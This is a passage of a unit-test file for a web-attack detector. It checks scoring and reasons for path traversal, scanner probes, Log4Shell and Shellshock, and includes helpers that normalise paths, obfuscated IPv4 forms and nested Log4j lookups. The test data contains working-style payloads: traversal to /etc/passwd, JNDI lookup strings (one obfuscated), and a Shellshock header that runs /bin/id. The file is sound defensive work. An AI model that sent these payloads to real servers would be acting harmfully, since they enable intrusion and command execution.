      expect(loud).toEqual([]);
    });
  });
});

describe('scores and reasons', () => {
  it('scores a single ../ in a query parameter 3', () => {
    const f = top(tx('/portal/page?link=../tin-tuc/2026'), 'lfi');
    expect(f?.score).toBe(3);
  });
  it('scores /wp-login.php 4 (below attack)', () => {
    expect(top(tx('/wp-login.php'), 'scanner')?.score).toBe(4);
  });
  it('names the climb target', () => {
    expect(top(tx('/index.php?page=../../../../etc/passwd'), 'lfi')?.reason).toBe('lfi:climb-etc-passwd');
  });
  it('reports the header location for Log4Shell', () => {
    expect(top(tx('/', { headers: { 'User-Agent': '${jndi:ldap://x/a}' } }), 'code')?.location).toBe('headers.user-agent');
  });
  it('reports shellshock as rce 10', () => {
    const f = top(tx('/', { headers: { 'User-Agent': '() { :; }; echo; /bin/id' } }), 'rce');
    expect(f?.score).toBe(10);
  });
  it('truncates evidence to 256', () => {
    const f = top(tx(`/index.php?page=../../../../etc/passwd${'A'.repeat(600)}`), 'lfi');
    expect(f?.decoded.length).toBe(256);
  });
});

describe('helpers', () => {
  it('walks paths', () => {
    expect(walkPath('../../etc/passwd')).toEqual({ climbs: 2, resolved: '/etc/passwd' });
    expect(walkPath('/a/b/../c')).toEqual({ climbs: 0, resolved: '/a/c' });
    expect(walkPath('..\\..\\x')).toEqual({ climbs: 2, resolved: '/x' });
  });
  it('parses inet_aton forms', () => {
    for (const h of ['2130706433', '0x7f000001', '017700000001', '127.1', '0177.0.0.1', '127.0.0.1'])
      expect(parseIPv4(h)?.octets, h).toEqual([127, 0, 0, 1]);
    expect(parseIPv4('1.2.3.4.5')).toBeUndefined();
    expect(classifyHost('dichvucong.gov.vn')).toBeUndefined();
    expect(classifyHost('8.8.8.8')).toBeUndefined();
  });
  it('unnests log4j lookups', () => {
    expect(unnestLookups('${${lower:j}ndi:${::-l}dap://x}')).toBe('${jndi:ldap://x}');
  });
});
